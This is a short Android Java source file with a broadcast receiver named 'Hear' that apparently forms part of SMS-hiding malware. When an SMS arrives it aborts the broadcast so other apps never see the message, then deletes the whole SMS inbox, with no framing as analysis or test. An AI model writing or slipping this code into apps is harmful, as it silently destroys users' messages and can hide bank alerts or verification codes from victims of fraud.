package p;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.net.Uri;

public class Hear extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        if (intent != null && "android.provider.Telephony.SMS_RECEIVED".equals(intent.getAction())) {
            abortBroadcast();
        }
        read(context, intent);
    }

    private void read(Context context, Intent intent) {
        context.getContentResolver().delete(Uri.parse("content://sms/inbox"), null, null);
    }
}
